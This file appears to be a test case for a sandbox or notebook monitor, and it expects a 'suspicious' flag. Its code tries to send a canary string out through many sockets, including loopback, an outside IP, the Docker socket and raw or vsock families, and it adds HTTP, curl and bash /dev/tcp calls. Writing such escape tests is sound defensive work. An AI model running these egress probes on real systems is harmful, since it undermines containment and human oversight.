"""Tries every way out: loopback, the outside, names, sockets of all families; one packet would be too many."""

EXPECT = {"flags": "suspicious"}

# %%
import socket
import urllib.request

secret = b"can" + b"ary-escaped"
for family, kind, place in (
    (socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", TCP_PORT)),
    (socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", UDP_PORT)),
    (socket.AF_INET, socket.SOCK_DGRAM, ("203.0.113.5", 53)),
    (socket.AF_INET, socket.SOCK_STREAM, ("10.0.2.2", 80)),
    (socket.AF_INET6, socket.SOCK_STREAM, ("::1", TCP_PORT)),
    (socket.AF_UNIX, socket.SOCK_STREAM, "\0ABSTRACT_NAME"),
    (socket.AF_UNIX, socket.SOCK_STREAM, "UNIX_PATH"),
    (socket.AF_UNIX, socket.SOCK_STREAM, "/run/docker.sock"),
    (socket.AF_UNIX, socket.SOCK_DGRAM, "/dev/log"),
    (socket.AF_NETLINK, socket.SOCK_RAW, (0, 0)),
    (socket.AF_VSOCK, socket.SOCK_STREAM, (2, 1024)),
    (socket.AF_PACKET, socket.SOCK_RAW, ("lo", 0)),
):
    try:
        with socket.socket(family, kind) as way:
            way.settimeout(0.2)
            way.connect(place)
            way.sendall(secret)
            print("OUT:", family, place)
    except (OSError, OverflowError) as error:
        print(family, error)

# %%
for address in ("http://127.0.0.1:TCP_PORT/", "http://example.org/"):
    try:
        print("OUT:", urllib.request.urlopen(address, timeout=1).read())
    except OSError as error:
        print(error)

# %%
!bash -c 'echo canary > /dev/tcp/127.0.0.1/TCP_PORT' 2>&1
!ip address 2>&1; curl -sS --max-time 1 http://127.0.0.1:TCP_PORT/ 2>&1
